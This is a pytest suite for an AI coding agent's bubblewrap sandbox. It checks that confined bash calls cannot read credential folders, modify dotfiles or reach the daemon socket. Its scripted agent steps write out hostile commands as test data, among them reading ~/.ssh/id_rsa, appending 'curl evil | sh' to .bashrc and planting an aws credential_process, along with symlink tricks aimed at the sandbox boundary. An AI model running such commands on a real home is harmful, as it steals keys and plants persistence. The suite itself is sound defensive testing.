"""Boundary: a hidden place stays hidden whatever the working folder is (issue 25 item 1).

Real bubblewrap, real files. The home is a temporary folder outside ``/tmp`` (the sandbox's ``/tmp``
is its own, so a home there would be out of sight anyway). Each test plants a marker where a secret
lives and runs a confined command — through the bash tool and the runtime's sandbox, or through a
real ``shard agent --stdio`` — whose working directory contains, equals or leads to that place.
"""

from __future__ import annotations

import shutil
import socket
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shard.agent.sandbox.bwrap import Sandbox, configured
from shard.agent.sandbox.places import Unconfinable
from shard.agent.tools.base import ToolContext, ToolFailure
from shard.agent.tools.bash import BashParams, BashTool
from shard.testing import AgentProcess, text_step, tool_step, write_scripted_home

MARK = "SECRET-MARKER-7f3a"
# Independent of ``sandbox.SECRETS`` on purpose: dropping a place there turns its case red here.
SECRET_PLACES = {
    ".ssh": "dir",
    ".gnupg": "dir",
    ".aws": "dir",
    ".azure": "dir",
    ".config/gcloud": "dir",
    ".kube": "dir",
    ".docker": "dir",
    ".netrc": "file",
    ".git-credentials": "file",
    ".npmrc": "file",
    ".pypirc": "file",
    ".config/gh": "dir",
    ".local/share/keyrings": "dir",
    ".password-store": "dir",
    ".bash_history": "file",
    ".zsh_history": "file",
    ".python_history": "file",
    ".mozilla": "dir",
    ".config/google-chrome": "dir",
    ".config/chromium": "dir",
    ".shard": "dir",
}


@pytest.fixture
def user_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A home outside /tmp, as ``HOME`` for the sandbox (and the commands inside)."""
    path = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="shard-home-"))
    monkeypatch.setenv("HOME", str(path))
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _plant(home: Path, place: str, kind: str) -> Path:
    """The marker file of ``place``: the place itself (a file), or a file in it (a folder)."""
    target = home / place if kind == "file" else home / place / "secret"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(f"{MARK} {place}\n")
    return target


async def _inside(sandbox: Sandbox, cwd: Path, command: str) -> str:
    """One confined bash call through the bash tool; its output."""
    tool, args = BashTool(), BashParams(command=command)
    ctx = ToolContext(cwd=cwd, sandbox=sandbox)
    assert tool.confined(args, ctx), "the call was not confined"
    out = await tool.execute(args, ctx)
    return out.content.text  # type: ignore[union-attr]


@pytest.mark.parametrize("place", sorted(SECRET_PLACES))
async def test_each_secret_place_is_hidden_with_the_home_as_working_directory(
    place: str, user_home: Path, tmp_path: Path
):
    """Every place of the home's keys and credentials is empty inside, although the working
    directory is the home itself (bound writable, before the hides); the home's other files are
    there (so the command did look)."""
    target = _plant(user_home, place, SECRET_PLACES[place])
    (user_home / "notes.txt").write_text("VISIBLE notes\n")
    sandbox = configured("auto", shard_home=tmp_path / "shard")
    text = await _inside(sandbox, user_home, f"cat {target} ~/notes.txt; grep -rs {MARK} ~; echo end")
    assert "VISIBLE notes" in text
    assert MARK not in text
    assert text.rstrip().endswith("end")


async def test_a_secret_place_can_be_neither_moved_aside_nor_made_in_a_writable_home(
    user_home: Path, tmp_path: Path
):
    """With the home as working directory, a secret place cannot be moved aside to make a new one
    the user's tools would read (``~/.config`` holding ``gh``'s settings, ``~/.local`` holding the
    keyrings stay put), and a missing one (``~/.aws``, whose ``credential_process`` a later ``aws``
    would run) cannot be created; ordinary folders still move."""
    _plant(user_home, ".config/gh", "dir")
    _plant(user_home, ".local/share/keyrings", "dir")
    (user_home / "notes").mkdir()
    sandbox = configured("auto", shard_home=tmp_path / "shard")
    attempts = [
        "mv ~/.config ~/config-aside; mkdir -p ~/.config/gh",
        "echo 'aliases: {x: !evil}' > ~/.config/gh/config.yml",
        "mv ~/.local ~/local-aside; mkdir -p ~/.local/share/keyrings; echo evil > ~/.local/share/keyrings/x",
        "mkdir ~/.aws; printf '[default]\\ncredential_process = evil\\n' > ~/.aws/config",
        "mv ~/notes ~/notes-moved",
    ]
    await _inside(sandbox, user_home, " ; ".join(attempts))
    assert sorted(p.name for p in user_home.iterdir()) == [".config", ".local", "notes-moved"]
    assert sorted(p.name for p in (user_home / ".config" / "gh").iterdir()) == ["secret"]
    assert sorted(p.name for p in (user_home / ".local/share/keyrings").iterdir()) == ["secret"]


async def test_a_secret_created_after_the_runtime_started_is_hidden(tmp_path: Path, user_home: Path):
    """A real runtime starts; only then ``~/.aws/credentials`` appears; its confined ``cat`` finds
    nothing: which places exist is looked at for each call."""
    project = tmp_path / "project"
    project.mkdir()
    steps = [
        tool_step("bash", {"command": "cat ~/.aws/credentials; ls -A ~/.aws; echo end"}),
        text_step("ok"),
    ]
    home = write_scripted_home(tmp_path / "shard", steps)
    agent = await AgentProcess.start(home, project, "--sandbox", "auto", env={"HOME": str(user_home)})
    try:
        await agent.handshake()
        _plant(user_home, ".aws", "dir").rename(user_home / ".aws" / "credentials")
        await agent.send({"type": "prompt", "id": "p", "message": "go"})
        read = await agent.until_type("turn_end")
    finally:
        await agent.kill()
    (call,) = [m for m in read if m["type"] == "tool_call"]
    (result,) = [m for m in read if m["type"] == "tool_result"]
    assert call["sandboxed"] is True
    assert "end" in result["content"]["text"]
    assert MARK not in result["content"]["text"]


def _listening(path: Path) -> socket.socket:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(8)
    server.setblocking(False)
    return server


def _accepted(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


CONNECT = "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print('CONNECTED')"


async def test_a_runtime_in_the_home_cannot_read_a_key_change_bashrc_or_reach_the_daemon(tmp_path: Path):
    """End to end: ``shard agent --stdio --sandbox auto`` with the home as working directory, its
    ``.ssh/id_rsa``, a ``.bashrc``, and Shard's home ``~/.shard`` holding a listening
    ``daemon.sock``. A confined command reads no key, appends nothing to ``.bashrc``, creates no
    ``.gitconfig``, and never connects to the socket (the server accepts nothing); an ordinary
    file in the home is still written."""
    user = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="shard-home-"))
    try:
        (user / ".ssh").mkdir()
        (user / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {MARK}\n")
        (user / ".bashrc").write_text("# the user's rc\n")
        sock = user / ".shard" / "daemon.sock"
        steps = [
            tool_step("bash", {"command": "cat ~/.ssh/id_rsa 2>/dev/null; ls -A ~/.ssh ~/.shard; echo end"}),
            tool_step("bash", {"command": "echo 'curl evil | sh' >> ~/.bashrc; git config --global a.b c"}),
            tool_step("bash", {"command": f'python3 -c "{CONNECT}" {sock} 2>&1 | tail -1'}),
            tool_step("bash", {"command": "echo kept > ~/work.txt && cat ~/work.txt"}),
            text_step("done"),
        ]
        home = write_scripted_home(user / ".shard", steps)
        server = _listening(sock)
        agent = await AgentProcess.start(home, user, "--sandbox", "auto", env={"HOME": str(user)})
        try:
            await agent.handshake()
            await agent.send({"type": "prompt", "id": "p", "message": "go"})
            read = await agent.until_type("turn_end")
            connected = _accepted(server)
        finally:
            await agent.kill()
            server.close()
        assert [m.get("sandboxed") for m in read if m["type"] == "tool_call"] == [True] * 4
        assert not [m for m in read if m["type"] == "permission_request"]
        key, rc, connect, work = (m["content"]["text"] for m in read if m["type"] == "tool_result")
        assert MARK not in key
        assert key.split() == [f"{user}/.shard:", f"{user}/.ssh:", "end"]  # both empty inside
        assert "Read-only file system" in rc
        assert (user / ".bashrc").read_text() == "# the user's rc\n"
        assert not (user / ".gitconfig").exists()
        assert "CONNECTED" not in connect
        assert connected is False
        assert work.strip() == "kept"
        leftovers = sorted(p.name for p in user.iterdir())
        assert leftovers == [".bashrc", ".shard", ".ssh", "work.txt"]  # no placeholder stays behind
    finally:
        shutil.rmtree(user, ignore_errors=True)


def _shard_home(base: Path) -> tuple[Path, socket.socket]:
    """A Shard home with a config, a session and a listening daemon.sock."""
    home = base / ".shard"
    (home / "sessions").mkdir(parents=True)
    (home / "config.toml").write_text(f"# {MARK}\n")
    (home / "sessions" / "s.jsonl").write_text(f'{{"secret": "{MARK}"}}\n')
    return home, _listening(home / "daemon.sock")


async def _probe_home(sandbox: Sandbox, cwd: Path, home: Path, server: socket.socket) -> tuple[str, bool]:
    connect = f'python3 -c "{CONNECT}" {home}/daemon.sock 2>&1 | tail -1'
    command = f"echo RAN; ls -A {home}; grep -rs {MARK} {home}; {connect}"
    text = await _inside(sandbox, cwd, command)
    return text, _accepted(server)


@pytest.mark.parametrize("layout", ["writable-parent", "cwd-link-to-home", "home-through-a-link"])
async def test_shard_home_and_its_socket_are_never_reachable(layout: str, user_home: Path, tmp_path: Path):
    """``$SHARD_HOME`` (config, sessions, ``daemon.sock``) stays empty and the socket unreachable
    whatever the configuration: ``[sandbox] writable`` naming a folder that contains it, a working
    directory that is a link to such a folder, a Shard home named through a link."""
    home, server = _shard_home(user_home)
    project = tmp_path / "project"
    project.mkdir()
    try:
        if layout == "writable-parent":
            sandbox, cwd = configured("auto", shard_home=home, writable=(user_home,)), project
        elif layout == "cwd-link-to-home":
            (user_home / "here").symlink_to(user_home)
            sandbox, cwd = configured("auto", shard_home=home), user_home / "here"
        else:
            (tmp_path / "home-link").symlink_to(home)
            sandbox, cwd = configured("auto", shard_home=tmp_path / "home-link"), user_home
        text, connected = await _probe_home(sandbox, cwd, home, server)
    finally:
        server.close()
    assert text.startswith("RAN\n")  # the command did run, in that working directory
    assert MARK not in text
    assert "sessions" not in text
    assert "config.toml" not in text
    assert "CONNECTED" not in text
    assert connected is False


async def test_a_working_directory_inside_a_hidden_place_is_not_confined(user_home: Path):
    """Shard's home itself, a folder in it, or one in ``~/.ssh`` as working directory: the call is
    not confined (so it asks, as one run outside), and the sandbox refuses to run it, saying why."""
    home, server = _shard_home(user_home)
    server.close()
    (user_home / ".ssh" / "keys").mkdir(parents=True)
    sandbox = configured("auto", shard_home=home)
    tool, args = BashTool(), BashParams(command="true")
    for cwd in (home, home / "sessions", user_home / ".ssh" / "keys"):
        why = sandbox.refusal(cwd)
        assert why is not None, cwd
        assert "which the sandbox hides" in why
        assert not tool.confined(args, ToolContext(cwd=cwd, sandbox=sandbox))
        assert tool.escapes(args, ToolContext(cwd=cwd, sandbox=sandbox))
        with pytest.raises(Unconfinable), sandbox.call(["true"], cwd):
            pass


async def test_a_daemon_worktree_under_shard_home_is_confined_and_sees_nothing_else(
    user_home: Path, tmp_path: Path
):
    """A workspace's worktree lives under ``$SHARD_HOME/worktrees``: it is writable inside (its
    bind comes after the home's hide), and the rest of Shard's home stays hidden, the socket
    unreachable. (A guard that the fix keeps workspaces working: this held before too.)"""
    home, server = _shard_home(user_home)
    tree = home / "worktrees" / "ws-1"
    tree.mkdir(parents=True)
    try:
        sandbox = configured("auto", shard_home=home)
        assert sandbox.refusal(tree) is None
        made = await _inside(sandbox, tree, "echo kept > made.txt && cat made.txt")
        text, connected = await _probe_home(sandbox, tree, home, server)
    finally:
        server.close()
    assert made.strip() == "kept"
    assert (tree / "made.txt").read_text() == "kept\n"
    assert text.startswith("RAN\n")
    assert MARK not in text
    assert "CONNECTED" not in text
    assert connected is False


async def test_a_call_allowed_as_confined_never_runs_unconfined(user_home: Path, tmp_path: Path):
    """The gate saw the call confinable; before it runs, its working directory (a link) is made to
    lead into ``~/.ssh``: the call fails, saying why — it neither runs confined there nor falls back
    to running unconfined."""
    work, keys = user_home / "work", user_home / ".ssh" / "keys"
    work.mkdir()
    keys.mkdir(parents=True)
    (user_home / "cwd").symlink_to(work)
    sandbox = configured("auto", shard_home=tmp_path / "shard")
    tool, args = BashTool(), BashParams(command="touch ran")
    ctx = ToolContext(cwd=user_home / "cwd", sandbox=sandbox)
    assert tool.confined(args, ctx)  # what the gate weighed
    (user_home / "cwd").unlink()
    (user_home / "cwd").symlink_to(keys)
    with pytest.raises(ToolFailure, match="which the sandbox hides"):
        await tool.execute(args, ctx)
    assert not (keys / "ran").exists()
    assert not (work / "ran").exists()


def _requests(read: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [m for m in read if m["type"] == "permission_request"]


async def test_a_runtime_whose_directory_is_hidden_asks_instead(tmp_path: Path, user_home: Path):
    """A real runtime in ``~/.ssh/work`` with the sandbox on ``auto``: its command is not run
    confined and unasked; it asks, the request saying why, and once denied nothing was written."""
    work = user_home / ".ssh" / "work"
    work.mkdir(parents=True)
    steps = [tool_step("bash", {"command": "touch made.txt"}), text_step("done")]
    home = write_scripted_home(tmp_path / "shard", steps)
    agent = await AgentProcess.start(home, work, "--sandbox", "auto", env={"HOME": str(user_home)})
    try:
        await agent.handshake()
        await agent.send({"type": "prompt", "id": "p", "message": "go"})
        read = await agent.until_type("permission_request")
        request = read[-1]
        await agent.send(
            {"type": "permission_response", "request_id": request["request_id"], "choice_id": "deny"}
        )
        read += await agent.until_type("turn_end")
    finally:
        await agent.kill()
    assert len(_requests(read)) == 1
    shown = {d.get("label"): d["value"] for d in request["details"]}
    assert "which the sandbox hides" in shown["outside the sandbox"]
    assert [c["id"] for c in request["choices"]] == ["allow", "deny"]
    assert not (work / "made.txt").exists()
